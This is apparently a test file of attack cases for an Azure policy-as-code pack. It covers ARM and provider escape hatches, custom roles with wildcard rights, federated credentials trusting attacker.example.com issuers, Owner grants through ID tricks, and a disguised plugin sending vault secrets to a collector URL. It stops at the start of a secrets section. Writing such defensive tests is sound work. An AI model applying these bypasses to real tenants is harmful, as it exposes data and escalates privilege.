/** Bypass cases: Escape hatches, privilege through other roles and principals, secrets outside env (issue 13, classes 2, 3, 6), and the key parts of classes 5 and 7. */
import { BUILT_IN_ROLES, type BuiltInRoleName } from "../../../controls/roles";
import { DELETE, job, T, type Context, type Mutation, type Stack, type Variation } from "../mutationCatalog";
import { loadDeployIdentities, roleGuid } from "../../../config/identities";

const PROD: Stack[] = ["prod"];
/** Base64 of 32 and 64 random bytes: a Redis / Service Bus key and a storage / Cosmos DB key. */
const KEY_256 = "CzBVep/E6Q4zWH2ix+wRNluApcrvFDleg6jN8hc8YYY=";
const KEY_512 = "BzxxptsQRXqv5BlOg7jtIleMwfYrYJXK/zRpntMIPXKn3BFGe7DlGk+Eue4jWI3C9yxhlssANWqf1Ak+c6jdEg==";
/** 32 hexadecimal characters: an Azure AI services or older AI Search key's shape. */
const HEX_32 = "9f8e7d6c5b4a4c3d8e2f1a0b9c8d7e6f";
const FIC = "azure-native:managedidentity:FederatedIdentityCredential";
const ROLE_DEFINITION = "azure-native:authorization:RoleDefinition";
const REDIS_ACCESS = "azure-native:redisenterprise:AccessPolicyAssignment";
const PG_ADMIN = "azure-native:dbforpostgresql:AdministratorsMicrosoftEntra";
/** A principal no stack creates and no preset lists (e.g. another environment's identity). */
const FOREIGN_PRINCIPAL = "9f8e7d6c-5b4a-4c3d-8e2f-1a0b9c8d7e6f";

const workloadRole = (i: Record<string, unknown>) => i.principalType === "ServicePrincipal";
const humanRole = (i: Record<string, unknown>) => i.principalType === "Group";
/** A role the stack grants the deploy identity (components/common/deployerGrants.ts). */
const deployerGrant = (i: Record<string, unknown>, role: string) =>
  typeof i.description === "string" && i.description.startsWith(`Deploy identity: ${role} `);
const IDENTITIES = loadDeployIdentities();
/** A custom role of deploy/identities.yaml, under the GUID the setup creates it with in `env`. */
const customRoleId = (c: Context, role: string, env: "dev" | "prod") =>
  `/subscriptions/${c.subscription}/providers/Microsoft.Authorization/roleDefinitions/${roleGuid(IDENTITIES, role, env)}`;
const readerRole = (i: Record<string, unknown>) =>
  humanRole(i) && String(i.roleDefinitionId).endsWith(BUILT_IN_ROLES.Reader);
const appNamed = (name: string) => (i: Record<string, unknown>) => i.containerAppName === name;
const roleId = (c: Context, role: BuiltInRoleName) =>
  `/subscriptions/${c.subscription}/providers/Microsoft.Authorization/roleDefinitions/${BUILT_IN_ROLES[role]}`;
const tagsFor = (c: Context, dataClassification = "internal") => ({
  environment: c.stack,
  owner: "platform-team",
  dataClassification,
});

// ---------------------------------------------------------------------------------------------
// Class 2: escape hatches — resources whose content the pack cannot see
// ---------------------------------------------------------------------------------------------

/** An ARM template creating a public storage account with shared keys: everything the pack forbids. */
const PUBLIC_STORAGE_TEMPLATE = {
  $schema: "https://schema.management.azure.com/schemas/2019-04-01/deploymentTemplate.json#",
  contentVersion: "1.0.0.0",
  resources: [
    {
      type: "Microsoft.Storage/storageAccounts",
      apiVersion: "2023-05-01",
      name: "stexfil",
      location: "eastus",
      kind: "StorageV2",
      sku: { name: "Standard_LRS" },
      properties: { allowBlobPublicAccess: true, allowSharedKeyAccess: true, publicNetworkAccess: "Enabled" },
    },
  ],
};

const deploymentLike = (
  type: string,
  name: string,
  extra: (c: Context) => Record<string, unknown>,
): Mutation => ({
  id: `${type.split(":").pop()} deploys an unseen template`,
  add: {
    type,
    name,
    inputs: (c) => ({
      properties: { mode: "Incremental", template: PUBLIC_STORAGE_TEMPLATE },
      location: "westeurope",
      ...extra(c),
    }),
  },
  policy: "no-arm-escape-hatches",
  control: "ENV-1",
});

const ESCAPE_HATCHES: Mutation[] = [
  deploymentLike("azure-native:resources:Deployment", "arm", (c) => ({
    resourceGroupName: c.resourceGroup,
    deploymentName: "quick-fix",
  })),
  deploymentLike("azure-native:resources:DeploymentAtScope", "arm-scope", (c) => ({
    scope: `/subscriptions/${c.subscription}`,
    deploymentName: "quick-fix",
  })),
  deploymentLike("azure-native:resources:DeploymentAtSubscriptionScope", "arm-sub", () => ({
    deploymentName: "quick-fix",
  })),
  deploymentLike("azure-native:resources:DeploymentAtManagementGroupScope", "arm-mg", () => ({
    groupId: "mg-root",
    deploymentName: "quick-fix",
  })),
  deploymentLike("azure-native:resources:DeploymentAtTenantScope", "arm-tenant", () => ({
    deploymentName: "quick-fix",
  })),
  deploymentLike("azure-native:resources:DeploymentStackAtResourceGroup", "stack", (c) => ({
    resourceGroupName: c.resourceGroup,
    deploymentStackName: "quick-fix",
    actionOnUnmanage: { resources: "detach" },
    denySettings: { mode: "none" },
  })),
  deploymentLike("azure-native:resources:DeploymentStackAtSubscription", "stack-sub", () => ({
    deploymentStackName: "quick-fix",
    actionOnUnmanage: { resources: "detach" },
    denySettings: { mode: "none" },
  })),
  {
    id: "an API-versioned Deployment token (local package) deploys an unseen template",
    add: {
      type: "azure-native:resources/v20240301:Deployment",
      name: "arm-versioned",
      inputs: (c) => ({
        resourceGroupName: c.resourceGroup,
        properties: { mode: "Incremental", template: PUBLIC_STORAGE_TEMPLATE },
      }),
    },
    policy: "no-arm-escape-hatches",
    control: "ENV-1",
  },
  {
    id: "a template spec version carries a template for later deployment",
    add: {
      type: "azure-native:resources:TemplateSpecVersion",
      name: "spec",
      inputs: (c) => ({
        resourceGroupName: c.resourceGroup,
        templateSpecName: "storage",
        templateSpecVersion: "1.0",
        location: "westeurope",
        mainTemplate: PUBLIC_STORAGE_TEMPLATE,
      }),
    },
    policy: "no-arm-escape-hatches",
    control: "ENV-1",
  },
  {
    id: "a deployment script runs az CLI with the stack's identity",
    add: {
      type: "azure-native:resources:AzureCliScript",
      name: "script",
      inputs: (c) => ({
        resourceGroupName: c.resourceGroup,
        scriptName: "fix-network",
        kind: "AzureCLI",
        azCliVersion: "2.60.0",
        retentionInterval: "PT1H",
        location: "westeurope",
        identity: { type: "UserAssigned", userAssignedIdentities: [c.idOf(T.identity)] },
        scriptContent: `az keyvault update -n ${c.nameOf(T.vault)} --public-network-access Enabled`,
      }),
    },
    policy: "no-arm-escape-hatches",
    control: "ENV-1",
  },
  {
    id: "a PowerShell deployment script",
    add: {
      type: "azure-native:resources:AzurePowerShellScript",
      name: "ps-script",
      inputs: (c) => ({
        resourceGroupName: c.resourceGroup,
        scriptName: "fix",
        kind: "AzurePowerShell",
        azPowerShellVersion: "12.0",
        retentionInterval: "PT1H",
        location: "westeurope",
        scriptContent: "Remove-AzResourceLock -Force",
      }),
    },
    policy: "no-arm-escape-hatches",
    control: "ENV-1",
  },
  {
    id: "a generic resources:Resource creates a public storage account by provider namespace",
    add: {
      type: "azure-native:resources:Resource",
      name: "generic",
      inputs: (c) => ({
        resourceGroupName: c.resourceGroup,
        resourceProviderNamespace: "Microsoft.Storage",
        resourceType: "storageAccounts",
        resourceName: "stgeneric",
        parentResourcePath: "",
        apiVersion: "2023-05-01",
        location: "westeurope",
        kind: "StorageV2",
        sku: { name: "Standard_LRS" },
        properties: { allowBlobPublicAccess: true, publicNetworkAccess: "Enabled" },
      }),
    },
    policy: "no-arm-escape-hatches",
    control: "ENV-1",
  },
  {
    id: "an Azure Policy definition whose deployIfNotExists effect deploys a template",
    add: {
      type: "azure-native:authorization:PolicyDefinition",
      name: "dine",
      inputs: () => ({
        policyDefinitionName: "ensure-storage",
        mode: "All",
        policyRule: {
          if: { field: "type", equals: "Microsoft.Resources/subscriptions/resourceGroups" },
          then: {
            effect: "deployIfNotExists",
            details: {
              type: "Microsoft.Storage/storageAccounts",
              roleDefinitionIds: [
                `/providers/Microsoft.Authorization/roleDefinitions/${BUILT_IN_ROLES.Contributor}`,
              ],
              deployment: { properties: { mode: "incremental", template: PUBLIC_STORAGE_TEMPLATE } },
            },
          },
        },
      }),
    },
    policy: "no-arm-escape-hatches",
    control: "ENV-1",
  },
];

/**
 * Providers other than azure-native that change Azure or Entra ID: what they do never reaches an
 * azure-native policy, and their tokens are not Azure resources to the pack (no location, tag or
 * type gate either).
 */
const providerHatch = (
  id: string,
  type: string,
  name: string,
  inputs: (c: Context) => Record<string, unknown>,
) =>
  ({ id, add: { type, name, inputs }, policy: "no-provider-escape-hatches", control: "ENV-1" }) as Mutation;

const PROVIDER_HATCHES: Mutation[] = [
  // Deny by default (bypass9): packages no list names. azure-nextgen is azure-native's retired
  // predecessor (same ARM resources, tokens `azure-nextgen:<module>/<version>:<Name>`, e.g. the
  // aliases azure-native v1 declared): to the pack its resources were not Azure resources at all.
  providerHatch(
    "the retired azure-nextgen SDK creates a public storage account with shared keys",
    "azure-nextgen:storage/latest:StorageAccount",
    "st-nextgen",
    (c) => ({
      resourceGroupName: c.resourceGroup,
      accountName: "stnextgenexfil",
      location: "eastus",
      kind: "StorageV2",
      sku: { name: "Standard_LRS" },
      allowBlobPublicAccess: true,
      allowSharedKeyAccess: true,
      publicNetworkAccess: "Enabled",
    }),
  ),
  providerHatch(
    "a generic REST provider PUTs an ARM request that opens the customer data account",
    "restapi:index/object:Object",
    "open-account",
    (c) => ({
      path: `/subscriptions/${c.subscription}/resourceGroups/${c.resourceGroup}/providers/Microsoft.Storage/storageAccounts/${c.nameOf(T.account)}?api-version=2023-05-01`,
      data: JSON.stringify({ properties: { publicNetworkAccess: "Enabled", allowSharedKeyAccess: true } }),
    }),
  ),
  // bypass10: a plugin that calls itself `secure-azure-platform` (the name of our components
  // package, which the pack accepts) serving a *custom* resource under one of our components'
  // tokens: its Create runs the plugin's code (here: copy the vault's secrets out). Before, it was
  // skipped as one of our components.
  providerHatch(
    "a plugin named after our components package serves a custom 'KeyVault' that copies secrets out",
    "secure-azure-platform:index:KeyVault",
    "kv-sync",
    (c) => ({ vaultId: c.idOf(T.vault), exportTo: "https://collector.example.net/upload" }),
  ),
  providerHatch(
    "customer exports also go to an S3 bucket in another cloud",
    "aws:s3/bucket:Bucket",
    "exports",
    () => ({
      bucket: "sap-customer-exports",
    }),
  ),
  providerHatch(
    "AzAPI PATCHes the customer data account open (public access, shared keys)",
    "azapi:index/updateResource:UpdateResource",
    "open-storage",
    (c) => ({
      type: "Microsoft.Storage/storageAccounts@2023-05-01",
      resourceId: c.idOf(T.account),
      body: JSON.stringify({ properties: { publicNetworkAccess: "Enabled", allowSharedKeyAccess: true } }),
    }),
  ),
  providerHatch(
    "AzAPI creates a storage account in the US",
    "azapi:index/resource:Resource",
    "st-us",
    (c) => ({
      type: "Microsoft.Storage/storageAccounts@2023-05-01",
      parentId: `/subscriptions/${c.subscription}/resourceGroups/${c.resourceGroup}`,
      name: "stexfil",
      location: "eastus",
      body: JSON.stringify({ kind: "StorageV2", sku: { name: "Standard_LRS" } }),
    }),
  ),
  providerHatch(
    "AzAPI action lists the storage account keys",
    "azapi:index/resourceAction:ResourceAction",
    "keys",
    (c) => ({
      type: "Microsoft.Storage/storageAccounts@2023-05-01",
      resourceId: c.idOf(T.account),
      action: "listKeys",
    }),
  ),
  providerHatch(
    "a Terraform azurerm storage account (any-terraform-provider package)",
    "azurerm:index/storageAccount:StorageAccount",
    "st-tf",
    (c) => ({
      name: "sttf",
      resourceGroupName: c.resourceGroup,
      location: "eastus",
      accountTier: "Standard",
      accountReplicationType: "LRS",
      publicNetworkAccessEnabled: true,
    }),
  ),
  providerHatch(
    "an az CLI command re-opens Key Vault (pulumi-command)",
    "command:local:Command",
    "kv-open",
    (c) => ({ create: `az keyvault update -n ${c.nameOf(T.vault)} --public-network-access Enabled` }),
  ),
  providerHatch(
    "a remote command on a VM with a managed identity",
    "command:remote:Command",
    "vm-cmd",
    () => ({
      connection: { host: "10.0.0.4", user: "azureuser" },
      create: "az login --identity && az storage account update --allow-shared-key-access true -n x",
    }),
  ),
  providerHatch(
    "a dynamic provider calling the Azure SDK",
    "pulumi-nodejs:dynamic:Resource",
    "unlock",
    () => ({
      __provider: "exports.handler = ...",
      lockId: "/subscriptions/x/providers/Microsoft.Authorization/locks/l",
    }),
  ),
  providerHatch("a Python dynamic provider in a module", "pulumi-python:dynamic/ops:Fix", "fix", () => ({
    __provider: "...",
  })),
  providerHatch(
    "an Entra member added to a preset group (inherits its roles)",
    "azuread:index/groupMember:GroupMember",
    "member",
    () => ({
      groupObjectId: "0a1b2c3d-4e5f-4a6b-8c7d-9e0f1a2b3c4d",
      memberObjectId: "9f8e7d6c-5b4a-4c3d-8e2f-1a0b9c8d7e6f",
    }),
  ),
  providerHatch(
    "an Entra application password",
    "azuread:index/applicationPassword:ApplicationPassword",
    "secret",
    () => ({ applicationId: "/applications/00000000-0000-0000-0000-000000000001" }),
  ),
];

/** A job (written as the platform writes them) that also runs as `identity(c)`. */
const runsAs = (id: string, name: string, identity: (c: Context) => string): Mutation => {
  const base = job(name);
  return {
    id,
    add: {
      ...base,
      inputs: (c) => {
        const inputs = base.inputs(c);
        inputs.identity = { type: "UserAssigned", userAssignedIdentities: [c.idOf(T.identity), identity(c)] };
        return inputs;
      },
    },
    policy: "user-assigned-identities-from-stack",
    control: "IAM-2",
  };
};
const otherStack = (c: Context) => (c.stack === "prod" ? "dev" : "prod");

const BORROWED_IDENTITIES: Mutation[] = [
  runsAs(
    "a job also running as the other environment's workload identity (its data roles)",
    "borrow-other-env",
    (c) => c.idOf(T.identity).split(c.stack).join(otherStack(c)),
  ),
  runsAs(
    "a job running as the deploy identity (Contributor and RBAC Administrator on the subscription)",
    "as-deployer",
    (c) =>
      `/subscriptions/${c.subscription}/resourceGroups/rg-ci-identities/providers/Microsoft.ManagedIdentity/userAssignedIdentities/sap-deploy-${c.stack}`,
  ),
];

/** A policy definition (no deployment in it) whose effect rewrites the stack's own requests. */
const rewritingDefinition = (id: string, name: string, then: Record<string, unknown>): Mutation => ({
  id,
  add: {
    type: "azure-native:authorization:PolicyDefinition",
    name,
    inputs: () => ({
      policyDefinitionName: name,
      mode: "Indexed",
      policyRule: { if: { field: "type", equals: "Microsoft.Storage/storageAccounts" }, then },
    }),
  },
  policy: "no-arm-escape-hatches",
  control: "ENV-1",
});

/** Azure Policy resources that act (or stop guardrails acting) on the whole subscription. */
const policyResource = (
  id: string,
  type: string,
  name: string,
  inputs: (c: Context) => Record<string, unknown>,
): Mutation => ({
  id,
  add: { type, name, inputs },
  policy: "no-arm-escape-hatches",
  control: "ENV-1",
});
/** The built-in "Deploy Diagnostic Settings for Key Vault to Event Hub" (deployIfNotExists). */
const BUILT_IN_DINE =
  "/providers/Microsoft.Authorization/policyDefinitions/ed7c8c13-51e7-49d1-8a43-8490431a0da2";

const POLICY_RESOURCES: Mutation[] = [
  policyResource(
    "a built-in deployIfNotExists policy assigned on the subscription (every vault's logs to a foreign event hub)",
    "azure-native:authorization:PolicyAssignment",
    "kv-diag-everywhere",
    (c) => ({
      scope: `/subscriptions/${c.subscription}`,
      policyAssignmentName: "kv-diag",
      policyDefinitionId: BUILT_IN_DINE,
      location: "westeurope",
      identity: { type: "SystemAssigned" },
      parameters: {
        eventHubRuleId: {
          value: `/subscriptions/5e0f0000-0000-4000-8000-00000000beef/resourceGroups/rg-x/providers/Microsoft.EventHub/namespaces/ehx/authorizationRules/send`,
        },
      },
    }),
  ),
  policyResource(
    "a remediation running an assignment's deployment on everything that exists",
    "azure-native:policyinsights:RemediationAtSubscription",
    "remediate",
    (c) => ({
      remediationName: "now",
      policyAssignmentId: `/subscriptions/${c.subscription}/providers/Microsoft.Authorization/policyAssignments/kv-diag`,
    }),
  ),
  policyResource(
    "an exemption from an organization guardrail for the customer data account",
    "azure-native:authorization:PolicyExemption",
    "waiver",
    (c) => ({
      scope: c.idOf(T.account),
      policyExemptionName: "allow-public",
      exemptionCategory: "Waiver",
      policyAssignmentId:
        "/providers/Microsoft.Management/managementGroups/root/providers/Microsoft.Authorization/policyAssignments/deny-public-storage",
    }),
  ),
  policyResource(
    "a policy definition version with a modify effect",
    "azure-native:authorization:PolicyDefinitionVersion",
    "reopen-v2",
    () => ({
      policyDefinitionName: "reopen",
      policyDefinitionVersion: "2.0.0",
      mode: "Indexed",
      policyRule: {
        if: { field: "type", equals: "Microsoft.KeyVault/vaults" },
        then: {
          effect: "modify",
          details: {
            roleDefinitionIds: [],
            operations: [
              {
                operation: "addOrReplace",
                field: "Microsoft.KeyVault/vaults/publicNetworkAccess",
                value: "Enabled",
              },
            ],
          },
        },
      },
    }),
  ),
];

const REWRITING_DEFINITIONS: Mutation[] = [
  rewritingDefinition("an Azure Policy modify effect re-opening storage accounts on every update", "reopen", {
    effect: "modify",
    details: {
      roleDefinitionIds: [`/providers/Microsoft.Authorization/roleDefinitions/${BUILT_IN_ROLES.Contributor}`],
      operations: [
        {
          operation: "addOrReplace",
          field: "Microsoft.Storage/storageAccounts/publicNetworkAccess",
          value: "Enabled",
        },
      ],
    },
  }),
  rewritingDefinition("a parameterized effect whose details are modify operations", "param-modify", {
    effect: "[parameters('effect')]",
    details: {
      roleDefinitionIds: [],
      operations: [
        {
          operation: "addOrReplace",
          field: "Microsoft.Storage/storageAccounts/allowSharedKeyAccess",
          value: true,
        },
      ],
    },
  }),
  rewritingDefinition("an Azure Policy append effect adding an allow-all IP rule", "append-ip", {
    effect: "append",
    details: [
      {
        field: "Microsoft.Storage/storageAccounts/networkAcls.ipRules[*]",
        value: { value: "0.0.0.0/0", action: "Allow" },
      },
    ],
  }),
];

const customRole = (
  id: string,
  permissions: Record<string, unknown>,
  scopes?: (c: Context) => string[],
): Mutation => ({
  id: `custom role definition: ${id}`,
  add: {
    type: ROLE_DEFINITION,
    name: `role-${id.replace(/[^a-z0-9]+/gi, "-")}`,
    inputs: (c) => ({
      scope: `/subscriptions/${c.subscription}/resourceGroups/${c.resourceGroup}`,
      roleName: "platform-operator",
      permissions: [permissions],
      assignableScopes: scopes
        ? scopes(c)
        : [`/subscriptions/${c.subscription}/resourceGroups/${c.resourceGroup}`],
    }),
  },
  policy: "custom-role-definition-least-privilege",
  control: "IAM-2",
});

const CUSTOM_ROLES: Mutation[] = [
  customRole("every action", { actions: ["*"] }),
  customRole("Owner minus nothing that matters", {
    actions: ["*"],
    notActions: ["Microsoft.Authorization/*/Delete"],
  }),
  customRole("all writes", { actions: ["*/write"] }),
  customRole("the whole Authorization provider", { actions: ["Microsoft.Authorization/*"] }),
  customRole("role assignments by wildcard", { actions: ["Microsoft.Authorization/roleAssignments/*"] }),
  customRole("storage keys by exact operation", {
    actions: ["Microsoft.Storage/storageAccounts/listKeys/action"],
  }),
  customRole("vault access policies", { actions: ["Microsoft.KeyVault/vaults/accessPolicies/write"] }),
  customRole("federated credentials on identities", {
    actions: ["Microsoft.ManagedIdentity/userAssignedIdentities/federatedIdentityCredentials/write"],
  }),
  customRole("every data action", { actions: [], dataActions: ["*"] }),
  customRole("every Key Vault data action", { actions: [], dataActions: ["Microsoft.KeyVault/*"] }),
  customRole("assignable at the tenant root", { actions: ["*/read"] }, () => ["/"]),
  customRole("assignable at a management group", { actions: ["*/read"] }, () => [
    "/providers/Microsoft.Management/managementGroups/mg-root",
  ]),
  customRole("assignable on the whole subscription", { actions: ["*/read"] }, (c) => [
    `/subscriptions/${c.subscription}`,
  ]),
];

const federated = (id: string, changes: Record<string, unknown>): Mutation => ({
  id: `federated credential: ${id}`,
  add: {
    type: FIC,
    name: `fic-${id.replace(/[^a-z0-9]+/gi, "-")}`,
    inputs: (c) => ({
      resourceGroupName: c.resourceGroup,
      resourceName: c.nameOf(T.identity),
      federatedIdentityCredentialResourceName: "github",
      issuer: "https://token.actions.githubusercontent.com",
      subject: `repo:example-org/secure-azure-platform:environment:${c.stack === "prod" ? "production" : "dev"}`,
      audiences: ["api://AzureADTokenExchange"],
      ...changes,
    }),
  },
  policy: "federated-credential-trusted-subject",
  control: "IAM-2",
});

const federatedOn = (what: string, where: (c: Context) => Record<string, unknown>): Mutation => {
  const base = federated(`on ${what}`, {});
  const add = base.add!;
  return {
    ...base,
    add: { ...add, inputs: (c) => ({ ...add.inputs(c), ...where(c) }) },
    policy: "federated-credential-on-stack-identity",
  };
};

const FEDERATED: Mutation[] = [
  federated("a subject the preset does not list", {}),
  federated("pull-request runs", { subject: "repo:example-org/secure-azure-platform:pull_request" }),
  federated("any branch by wildcard", { subject: "repo:example-org/secure-azure-platform:ref:refs/heads/*" }),
  federated("another repository", { subject: "repo:attacker/fork:ref:refs/heads/main" }),
  federated("an untrusted issuer", { issuer: "https://oidc.attacker.example.com" }),
  federated("a Kubernetes issuer of another cluster", {
    issuer: "https://westeurope.oic.prod-aks.azure.com/00000000-0000-0000-0000-000000000000/abc/",
    subject: "system:serviceaccount:default:default",
  }),
  federated("an extra audience", {
    audiences: ["api://AzureADTokenExchange", "https://attacker.example.com"],
  }),
  federated("no audience", { audiences: [] }),
  // Whom it trusts is judged above; which identity it opens was not: a subject the preset lists for
  // one identity, put on the deploy identity (or another group's identity), passed.
  federatedOn("the deploy identity", (c) => ({
    resourceGroupName: "rg-ci-identities",
    resourceName: `id-sap-deploy-${c.stack}`,
  })),
  federatedOn("an identity of the stack's name in another group", (c) => ({
    resourceGroupName: "rg-other",
    resourceName: c.nameOf(T.identity),
  })),
  // review13: an identity of the stack renamed (so being created, no `name` output yet) to the
  // deploy identity's names vouched for a credential naming them as text: the identity's create
  // fails (it exists) while the credential, not waiting for it, is added to the deploy identity.
  {
    ...federatedOn("the deploy identity, next to an identity being created with its names", (c) => ({
      resourceGroupName: "rg-ci-identities",
      resourceName: `id-sap-deploy-${c.stack}`,
    })),
    type: T.identity,
    set: {
      resourceGroupName: "rg-ci-identities",
      resourceName: (c: Context) => `id-sap-deploy-${c.stack}`,
      name: DELETE,
    },
  },
];

// ---------------------------------------------------------------------------------------------
// Class 3: privilege through other roles and principals
// ---------------------------------------------------------------------------------------------

const humanGranted = (role: BuiltInRoleName, scope?: (c: Context) => string): Mutation => ({
  id: `human group granted ${role}${scope ? " at a broader scope" : ""}`,
  type: T.role,
  where: readerRole,
  set: {
    roleDefinitionId: (c: Context) => roleId(c, role),
    ...(scope ? { scope } : {}),
  },
  policy: "role-assignment-no-privileged-human",
  control: "IAM-2",
});

const workloadGranted = (role: BuiltInRoleName, form: string, id: (c: Context) => string): Mutation => ({
  id: `workload identity granted ${role} (${form})`,
  type: T.role,
  where: workloadRole,
  set: { roleDefinitionId: id },
  policy: "role-assignment-no-privileged-workload",
  control: "IAM-2",
});

const OUTSIDE_ROLE = "0badc0de-0000-4000-8000-000000000000";
const outsideRole: Mutation = {
  id: "workload role pointed at a custom role made outside the stack",
  type: T.role,
  where: workloadRole,
  set: {
    roleDefinitionId: (c: Context) =>
      `/subscriptions/${c.subscription}/providers/Microsoft.Authorization/roleDefinitions/${OUTSIDE_ROLE}`,
  },
  policy: "role-assignment-known-role",
  control: "IAM-2",
};

/** The outside role's grant next to a definition being created that names its GUID by `key`. */
const nextToDecoyDefinition = (
  what: string,
  key: "roleDefinitionId" | "name",
  name: string,
  policy = outsideRole.policy,
): Mutation => ({
  ...outsideRole,
  id: `${outsideRole.id}, next to a decoy definition ${what}`,
  add: {
    type: "azure-native:authorization:RoleDefinition",
    name,
    inputs: (c) => ({
      [key]: OUTSIDE_ROLE,
      scope: `/subscriptions/${c.subscription}`,
      roleName: "Decoy reader",
      permissions: [{ actions: ["Microsoft.Storage/storageAccounts/read"] }],
      assignableScopes: [`/subscriptions/${c.subscription}/resourceGroups/${c.resourceGroup}`],
    }),
  },
  policy,
});

const PRIVILEGE: Mutation[] = [
  humanGranted("Owner"),
  humanGranted("Contributor", (c) => `/subscriptions/${c.subscription}`),
  humanGranted("User Access Administrator", () => "/providers/Microsoft.Management/managementGroups/mg-root"),
  humanGranted("Role Based Access Control Administrator"),
  humanGranted("Key Vault Data Access Administrator"),
  humanGranted("Key Vault Contributor"),
  humanGranted("Storage Account Contributor"),
  humanGranted("Storage Account Key Operator Service Role"),
  humanGranted("Managed Identity Contributor"),
  humanGranted("Managed Identity Operator"),
  humanGranted("Virtual Machine Contributor"),
  {
    id: "a single user granted Owner",
    type: T.role,
    where: readerRole,
    set: { principalType: "User", roleDefinitionId: (c: Context) => roleId(c, "Owner") },
    policy: "role-assignment-no-privileged-human",
    control: "IAM-2",
  },
  workloadGranted("Owner", "bare GUID", () => BUILT_IN_ROLES.Owner),
  workloadGranted("Owner", "upper case", (c) => roleId(c, "Owner").toUpperCase()),
  workloadGranted(
    "Owner",
    "another subscription's ID",
    () =>
      `/subscriptions/ffffffff-ffff-4fff-8fff-ffffffffffff/providers/Microsoft.Authorization/roleDefinitions/${BUILT_IN_ROLES.Owner}`,
  ),
  workloadGranted("Contributor", "trailing slash", (c) => `${roleId(c, "Contributor")}/`),
  workloadGranted("Storage Account Contributor", "lists the account keys", (c) =>
    roleId(c, "Storage Account Contributor"),
  ),
  workloadGranted("Key Vault Data Access Administrator", "grants itself any vault role", (c) =>
    roleId(c, "Key Vault Data Access Administrator"),
  ),
  workloadGranted("Key Vault Contributor", "vault access policies", (c) =>
    roleId(c, "Key Vault Contributor"),
  ),
  workloadGranted("Managed Identity Operator", "assigns other identities", (c) =>
    roleId(c, "Managed Identity Operator"),
  ),
  {
    id: "PIM eligibility for Owner on the subscription",
    add: {
      type: "azure-native:authorization:PimRoleEligibilitySchedule",
      name: "pim-owner",
      inputs: (c) => ({
        scope: `/subscriptions/${c.subscription}`,
        principalId: "3d4e5f6a-7b8c-4d9e-9f0a-2b3c4d5e6f7a",
        roleDefinitionId: roleId(c, "Owner"),
        scheduleInfo: { expiration: { type: "NoExpiration" } },
      }),
    },
    policy: "role-assignment-no-privileged-human",
    control: "IAM-2",
  },
  outsideRole,
  // bypass12: a definition being created vouched for any grant naming its GUID as text; with the
  // GUID of a role that exists already, its create fails and the grant gets that role's unseen
  // permissions.
  nextToDecoyDefinition("of its GUID", "roleDefinitionId", "decoy"),
  // review13: the GUID as a written `name`, which a preview shows as the `name` output of a
  // definition that exists: refused where it is written.
  nextToDecoyDefinition("named by a written name", "name", "decoy-by-name", "computed-properties-not-inputs"),
  {
    id: "human role pointed at a role ID that is a name",
    type: T.role,
    where: readerRole,
    set: { roleDefinitionId: "Owner" },
    policy: "role-assignment-known-role",
    control: "IAM-2",
  },
  // ENV-1: access to this environment's data for a principal it does not own.
  {
    id: "workload role pointed at another environment's identity",
    type: T.role,
    where: workloadRole,
    set: { principalId: FOREIGN_PRINCIPAL },
    policy: "principals-from-stack-or-allow-list",
    control: "ENV-1",
  },
  {
    id: "human role given to a group the preset does not list",
    type: T.role,
    where: humanRole,
    set: { principalId: FOREIGN_PRINCIPAL },
    policy: "principals-from-stack-or-allow-list",
    control: "ENV-1",
  },
  {
    id: "Managed Redis access policy assigned to a foreign principal",
    type: REDIS_ACCESS,
    set: { "user.objectId": FOREIGN_PRINCIPAL },
    policy: "principals-from-stack-or-allow-list",
    control: "ENV-1",
  },
  {
    id: "PostgreSQL Entra administrator replaced by a foreign group",
    type: PG_ADMIN,
    set: { objectId: FOREIGN_PRINCIPAL, principalName: "sg-someone-else" },
    policy: "principals-from-stack-or-allow-list",
    control: "ENV-1",
  },
  {
    id: "another Entra group, not in the preset, granted Reader",
    add: {
      type: T.role,
      name: "support-reader",
      inputs: (c) => ({
        principalId: "4e5f6a7b-8c9d-4e0f-a1b2-c3d4e5f6a7b8",
        principalType: "Group",
        roleDefinitionId: roleId(c, "Reader"),
        scope: `/subscriptions/${c.subscription}/resourceGroups/${c.resourceGroup}`,
      }),
    },
    policy: "principals-from-stack-or-allow-list",
    control: "ENV-1",
  },
  {
    id: "a grant to a foreign principal that vouches for it with a written identity.principalId",
    add: {
      type: T.role,
      name: "self-vouching",
      inputs: (c) => ({
        principalId: FOREIGN_PRINCIPAL,
        principalType: "ServicePrincipal",
        roleDefinitionId: roleId(c, "Storage Blob Data Reader"),
        scope: c.idOf(T.account),
        // Not an input of any azure-native resource: the provider's check lets it through.
        identity: { type: "SystemAssigned", principalId: FOREIGN_PRINCIPAL },
      }),
    },
    policy: "computed-properties-not-inputs",
    control: "IAM-2",
  },
  {
    id: "the stack's vault written with another vault's URI (Key Vault references to it would pass as the stack's)",
    type: T.vault,
    set: { "properties.vaultUri": "https://kv-attacker.vault.azure.net/" },
    policy: "computed-properties-not-inputs",
    control: "IAM-2",
  },
  {
    id: "a new data role for a principal outside the stack",
    add: {
      type: T.role,
      name: "foreign-blob-reader",
      inputs: (c) => ({
        principalId: FOREIGN_PRINCIPAL,
        principalType: "ServicePrincipal",
        roleDefinitionId: roleId(c, "Storage Blob Data Reader"),
        scope: c.idOf(T.account),
      }),
    },
    policy: "principals-from-stack-or-allow-list",
    control: "ENV-1",
  },
  // The deploy identity's grants (grantedBy: stack) go to the declared deployPrincipalId only.
  {
    id: "the deployer's Key Vault Crypto Officer granted to an undeclared principal",
    type: T.role,
    where: (i) => deployerGrant(i, "Key Vault Crypto Officer"),
    set: { principalId: FOREIGN_PRINCIPAL },
    policy: "principals-from-stack-or-allow-list",
    control: "ENV-1",
  },
  // Preset custom roles (customRoles of role-assignment-known-role): only this environment's.
  {
    id: "the deployer's Platform Secret Writer swapped for the other environment's (a GUID not in the preset)",
    type: T.role,
    where: (i) => deployerGrant(i, "Platform Secret Writer"),
    set: {
      roleDefinitionId: (c: Context) =>
        customRoleId(c, "Platform Secret Writer", c.stack === "prod" ? "dev" : "prod"),
    },
    policy: "role-assignment-known-role",
    control: "IAM-2",
  },
  {
    id: "a preset custom role (Platform Secret Writer) assigned to a preset group on the whole subscription",
    add: {
      type: T.role,
      name: "secret-writers-everywhere",
      inputs: (c) => ({
        principalId: "2c3d4e5f-6a7b-4c8d-8e9f-1a2b3c4d5e6f",
        principalType: "Group",
        roleDefinitionId: customRoleId(c, "Platform Secret Writer", c.stack),
        scope: `/subscriptions/${c.subscription}`,
      }),
    },
    policy: "role-assignment-known-role",
    control: "IAM-2",
  },
];

// ---------------------------------------------------------------------------------------------
// Class 6: secrets outside env, and detector gaps
